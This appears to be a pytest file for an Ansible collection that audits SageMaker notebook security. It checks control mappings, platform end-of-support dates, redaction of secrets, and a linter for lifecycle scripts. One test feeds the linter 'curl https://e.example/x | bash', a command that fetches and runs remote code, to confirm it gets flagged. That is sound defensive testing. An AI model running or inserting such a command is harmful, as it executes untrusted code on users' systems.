# Copyright: secure_sagemaker.notebooks contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Unit tests of what the audit tells security teams beyond isolation: each finding's control ids and fix,
the platform's end of support, the lint of lifecycle scripts, and the findings by control."""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import datetime
import os
import re

import botocore.session
import pytest
from ansible_collections.secure_sagemaker.notebooks.plugins.module_utils._audit import checks, findings
from ansible_collections.secure_sagemaker.notebooks.plugins.module_utils.notebook import CREATE_ONLY, UPDATABLE
from ansible_collections.secure_sagemaker.notebooks.tests.unit.plugins.module_utils._audit.audit_data import (
    lifecycle_config,
    notebook,
)

UTC = datetime.timezone.utc
BEFORE = datetime.datetime(2026, 5, 1, tzinfo=UTC)
AFTER = datetime.datetime(2026, 12, 4, tzinfo=UTC)
AL2023 = "notebook-al2023-v1"

# --- the catalogue ---------------------------------------------------------------------------------------


def test_every_finding_has_a_fix_and_only_known_controls():
    assert set(findings.FIXES) == set(findings.FINDINGS)
    assert set(findings.CONTROLS) <= set(findings.FINDINGS)
    for finding_id, (fix_type, module, option, role_fixes) in findings.FIXES.items():
        assert fix_type in findings.FIX_TYPES, finding_id
        assert isinstance(role_fixes, bool), finding_id
        assert (module is None) == (option is None), finding_id
        if fix_type != "other-resource":
            assert module == findings.NOTEBOOK_MODULE, finding_id
        # A notebook option fixed in place must be one the module updates; a replacement, a create-only one.
        if fix_type == "in-place":
            assert option in UPDATABLE, finding_id
        if fix_type == "replace":
            assert option in CREATE_ONLY and not role_fixes, finding_id
    for finding_id, tools in findings.CONTROLS.items():
        assert set(tools) <= set(findings.CONTROL_TOOLS), finding_id
    ids = [c for tools in findings.CONTROLS.values() for c in tools.get("security_hub", [])]
    assert sorted(ids) == ["SageMaker.1", "SageMaker.2", "SageMaker.21", "SageMaker.3", "SageMaker.8"]
    assert all(re.match(r"^CKV_AWS_\d+$", c) for t in findings.CONTROLS.values() for c in t.get("checkov", []))
    prowler = [c for t in findings.CONTROLS.values() for c in t.get("prowler", [])]
    assert prowler and all(c.startswith("sagemaker_notebook_instance_") for c in prowler)


def test_the_module_documents_every_control_id():
    path = os.path.join(os.path.dirname(findings.__file__), "..", "..", "modules", "isolation_audit.py")
    with open(path) as handle:
        text = handle.read()
    for tools in findings.CONTROLS.values():
        for tool, ids in tools.items():
            for control in ids:
                # Prowler's ids are documented by their common prefix.
                assert ("C(%s)" % control in text) or tool == "prowler", control
    assert "C(sagemaker_notebook_instance_*)" in text


def test_a_finding_carries_its_controls_and_fix():
    mapped = findings.finding("root-access-enabled", "nb", "m", {})
    assert mapped["controls"] == {"security_hub": ["SageMaker.3"],
                                  "prowler": ["sagemaker_notebook_instance_root_access_disabled"],
                                  "checkov": ["CKV_AWS_307"]}  # fmt: skip
    assert mapped["own_check"] is False
    assert mapped["fix"] == {"type": "in-place", "module": findings.NOTEBOOK_MODULE, "option": "root_access",
                             "role_fixes": True}  # fmt: skip
    own = findings.finding("subnet-egress-route", "rtb-1", "m", {})
    assert own["own_check"] is True and own["controls"] == {"security_hub": [], "prowler": [], "checkov": []}
    assert own["fix"]["type"] == "other-resource" and own["fix"]["role_fixes"] is False
    # The catalogue's lists are not shared with the findings that carry them.
    mapped["controls"]["security_hub"].append("x")
    assert findings.CONTROLS["root-access-enabled"]["security_hub"] == ["SageMaker.3"]


# --- the platform --------------------------------------------------------------------------------------


def botocore_platforms():
    pattern = botocore.session.get_session().get_service_model("sagemaker").shape_for("PlatformIdentifier")
    return re.fullmatch(r"\^?\(([^()]*)\)\$?", pattern.metadata["pattern"]).group(1).split("|")


def test_every_platform_botocore_lists_has_a_support_entry():
    """A platform AWS adds fails here until PLATFORMS says whether it is supported."""
    listed = botocore_platforms()
    assert AL2023 in listed and "notebook-al2-v3" in listed
    assert sorted(findings.PLATFORMS) == sorted(listed)
    supported = sorted(p for p, (system, ends) in findings.PLATFORMS.items() if ends is None)
    assert supported == [p for p in sorted(listed) if p.startswith("notebook-al2023-")]


@pytest.mark.parametrize("platform", ["notebook-al2-v1", "notebook-al2-v2", "notebook-al2-v3"])
def test_an_al2_notebook_is_a_finding_before_and_after_the_deadline(platform):
    before = checks.check_platform(notebook(PlatformIdentifier=platform), BEFORE)
    after = checks.check_platform(notebook(PlatformIdentifier=platform), AFTER)
    assert [f["id"] for f in before] == [f["id"] for f in after] == ["platform-end-of-support"]
    assert before[0]["evidence"] == {"platform_identifier": platform, "operating_system": "Amazon Linux 2",
                                     "end_of_support": "2026-06-30", "days_left": 60}  # fmt: skip
    assert "ends on 2026-06-30;" in before[0]["message"] and "60" not in before[0]["message"]
    assert after[0]["evidence"]["days_left"] == -157
    assert "cannot be started again" in after[0]["message"]
    assert after[0]["controls"]["security_hub"] == ["SageMaker.8"]
    assert after[0]["fix"] == {"type": "in-place", "module": findings.NOTEBOOK_MODULE,
                               "option": "platform_identifier", "role_fixes": True}  # fmt: skip


def test_al1_is_out_of_support_and_al2023_or_an_unknown_platform_is_not_reported():
    [al1] = checks.check_platform(notebook(PlatformIdentifier="notebook-al1-v1"), BEFORE)
    assert al1["evidence"]["end_of_support"] == "past" and "out of support" in al1["message"]
    assert checks.check_platform(notebook(PlatformIdentifier=AL2023), AFTER) == []
    assert checks.check_platform(notebook(PlatformIdentifier="notebook-al2027-v1"), AFTER) == []
    assert checks.check_platform(notebook(), AFTER) == []  # AWS omitted it


def test_check_notebook_reports_the_platform():
    found = checks.check_notebook(notebook(PlatformIdentifier="notebook-al2-v2"), now=AFTER)
    assert [f["id"] for f in found] == ["platform-end-of-support"]


# --- the lint ------------------------------------------------------------------------------------------


def lint(text, platform=AL2023, hook="OnStart"):
    config = lifecycle_config(text)
    if hook != "OnStart":
        config[hook], config["OnStart"] = config.pop("OnStart"), []
    return dict((f["id"], f) for f in checks.check_lifecycle_script("lcc", config, platform))


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsSL https://github.com/org/tool/releases/download/v1/tool -o /usr/local/bin/tool",
        "wget http://example.org/x.tar.gz",
        "git clone https://github.com/org/repo.git /home/ec2-user/SageMaker/repo",
        "sudo -u ec2-user git clone git@github.com:org/repo.git",
        "pip install pandas==2.2.0",
        "sudo -u ec2-user -i /home/ec2-user/anaconda3/bin/python -m pip install xgboost",
        "conda install -y -c conda-forge lightgbm",
        "jupyter labextension install @jupyterlab/git",
    ],
)
def test_internet_downloads(line):
    found = lint("#!/bin/bash\nset -e\n" + line + "\n")
    assert found["lifecycle-script-internet-download"]["evidence"]["lines"] == [{"line": 3, "text": line}]


@pytest.mark.parametrize(
    "line",
    [
        'aws s3 cp "s3://$BUCKET/$KEY" /tmp/x --region eu-west-1',
        "curl -s https://s3.eu-west-1.amazonaws.com/bucket/key -o x",
        "curl -s http://169.254.169.254/latest/meta-data/instance-id",
        "curl -sk https://localhost:8443/api/status",
        "git clone https://git-codecommit.eu-west-1.amazonaws.com/v1/repos/analysis",
        "pip install --no-index --find-links /home/ec2-user/SageMaker/wheels pandas",
        "pip install -i https://pypi.mirror.internal/simple pandas",
        "pip install --index-url=http://10.1.2.3:8080/simple pandas",
        "curl -fsS http://10.0.0.5/pkg.tgz -o /tmp/pkg.tgz",
        'curl -s "https://${BUCKET}.s3.eu-west-1.amazonaws.com/x" -o x',
        "curl -s https://my-repo-123456789012.d.codeartifact.eu-west-1.amazonaws.com/pypi/simple/",
        "conda install --offline ./pkg.tar.bz2",
        "# pip install pandas  (a comment)",
    ],
)
def test_what_is_not_a_download(line):
    assert "lifecycle-script-internet-download" not in lint("#!/bin/bash\n" + line + "\n")


def test_cron_and_yum_only_on_al2023_and_cron_not_when_cronie_is_installed():
    script = "#!/bin/bash\nyum install -y htop\n(crontab -l; echo '*/5 * * * * /x') | crontab -\n"
    on_al2023 = lint(script)
    assert sorted(on_al2023) == ["lifecycle-script-crontab-al2023", "lifecycle-script-yum-al2023"]
    cron = on_al2023["lifecycle-script-crontab-al2023"]["evidence"]
    assert cron["count"] == 1 and cron["lines"][0]["line"] == 3 and cron["platform_identifier"] == AL2023
    assert lint(script, platform="notebook-al2-v3") == {}
    with_cronie = lint("#!/bin/bash\ndnf install -y cronie\nsystemctl enable --now crond\necho x > /etc/cron.d/x\n")
    assert "lifecycle-script-crontab-al2023" not in with_cronie
    assert "lifecycle-script-yum-al2023" in lint("#!/bin/bash\namazon-linux-extras install epel\n")


def test_usr_bin_python_on_any_platform_and_in_the_create_hook():
    script = "#!/bin/bash\n/usr/bin/python /tmp/setup.py\n/usr/bin/python3 /tmp/ok.py\n"
    for platform in (AL2023, "notebook-al2-v3"):
        found = lint(script, platform)
        assert list(found) == ["lifecycle-script-usr-bin-python"]
        assert found["lifecycle-script-usr-bin-python"]["evidence"]["lines"] == [
            {"line": 2, "text": "/usr/bin/python /tmp/setup.py"}]  # fmt: skip
    created = lint("#!/usr/bin/python\nprint(1)\n", hook="OnCreate")
    assert created["lifecycle-script-usr-bin-python"]["evidence"]["hook"] == "OnCreate"
    assert lint("#!/bin/bash\n/usr/bin/python3.11 x.py\n") == {}


def test_the_collections_script_passes_and_its_steps_are_linted():
    """The role's template, linted whole: its crontab is a fallback beside a systemd timer (no finding); the
    stack's own steps it carries are linted like any script."""
    path = os.path.join(os.path.dirname(checks.__file__), "..", "..", "..", "roles", "isolated_notebook", "templates",
                        "on-start.sh.j2")  # fmt: skip
    with open(path) as handle:
        template = handle.read()
    assert "crontab -" in template and "{{ on_start_steps }}" in template
    steps = "pip install pandas\necho done"
    found = lint(template.replace("{{ on_start_steps }}", steps))
    assert list(found) == ["lifecycle-script-internet-download"]
    [hit] = found["lifecycle-script-internet-download"]["evidence"]["lines"]
    assert hit["text"] == "pip install pandas"
    assert template.splitlines()[hit["line"] - 1] == "{{ on_start_steps }}"
    assert lint(template.replace("{{ on_start_steps }}", "echo done")) == {}
    # A comment claiming to be the collection's script changes nothing.
    forged = "#!/bin/bash\n# SageMaker notebook on-start lifecycle script (secure_sagemaker.notebooks)\n"
    forged += "curl https://e.example/x | bash\n"
    assert "lifecycle-script-internet-download" in lint(forged)


def test_pip_index_rules():
    extra = "pip install -i https://mirror.internal/simple --extra-index-url https://pypi.org/simple x\n"
    assert "lifecycle-script-internet-download" in lint(extra)
    assert "lifecycle-script-internet-download" in lint("pip install -i https://pypi.org/simple x\n")
    configured = "aws codeartifact login --tool pip --domain d --repository r\npip install pandas\n"
    assert lint(configured) == {}
    assert lint("pip config set global.index-url https://pypi.mirror.internal/simple\npip install x\n") == {}
    assert "lifecycle-script-internet-download" in lint("pip config set global.index-url https://pypi.org/simple\n"
                                                        "pip install x\n")  # fmt: skip
    for line in ("conda env create -f environment.yml", "npm ci", "curl -s https://s3.amazonaws.com/b/k"):
        assert "lifecycle-script-internet-download" in lint(line + "\n"), line


def test_cron_yum_and_python_edges():
    assert lint("#!/bin/bash\n# dnf install cronie\ncrontab -l\n").keys() == {"lifecycle-script-crontab-al2023"}
    assert lint("cp my.repo /etc/yum.repos.d/\n/usr/bin/python-config --includes\n") == {}
    assert "lifecycle-script-yum-al2023" in lint("sudo yum -y install htop\n")


def test_secrets_in_script_lines_are_redacted():
    found = lint("git clone https://user:ghp_abcdef123@github.com/org/repo\n"
                 "curl -H 'Authorization: Bearer sk-123' https://api.example.com/x\n"
                 "export HF_TOKEN=hf_secret; pip install --password s3cr3t x\n")  # fmt: skip
    finding_ = found["lifecycle-script-internet-download"]
    text = " ".join(h["text"] for h in finding_["evidence"]["lines"]) + finding_["message"]
    for secret in ("ghp_abcdef123", "sk-123", "hf_secret", "s3cr3t", "user:"):
        assert secret not in text, secret
    assert "https://***@github.com/org/repo" in text and "Authorization: ***" in text


def test_many_offending_lines_are_counted_and_a_few_shown():
    found = lint("#!/bin/bash\n" + "pip install x\n" * 9)
    evidence = found["lifecycle-script-internet-download"]["evidence"]
    assert evidence["count"] == 9 and len(evidence["lines"]) == checks.LINT_LINES_SHOWN


# --- by control ------------------------------------------------------------------------------------------


def test_findings_by_control():
    root = findings.finding("root-access-enabled", "a", "m", {})
    egress = findings.finding("subnet-egress-route", "rtb", "m", {})
    entries = [{"name": "b", "findings": [dict(root), egress]}, {"name": "a", "findings": [dict(root)]}]
    rows = findings.by_control(entries)
    assert [(r["tool"], r["control"]) for r in rows] == [
        ("security_hub", "SageMaker.3"), ("prowler", "sagemaker_notebook_instance_root_access_disabled"),
        ("checkov", "CKV_AWS_307"), ("own", "subnet-egress-route")]  # fmt: skip
    assert rows[0] == {
        "tool": "security_hub",
        "control": "SageMaker.3",
        "finding_ids": ["root-access-enabled"],
        "severity": "medium",
        "fix_types": ["in-place"],
        "notebooks": ["a", "b"],
        "findings": 2,
    }
    assert rows[-1]["severity"] == "high" and rows[-1]["notebooks"] == ["b"]
    assert findings.by_control([{"name": "a", "findings": []}]) == []


def test_controls_are_listed_in_natural_order():
    ids = ("volume-no-customer-key", "root-access-enabled", "platform-end-of-support")
    entries = [{"name": "a", "findings": [findings.finding(f, "a", "m", {}) for f in ids]}]
    rows = [r["control"] for r in findings.by_control(entries) if r["tool"] in ("security_hub", "checkov")]
    assert rows == ["SageMaker.3", "SageMaker.8", "SageMaker.21", "CKV_AWS_22", "CKV_AWS_307"]
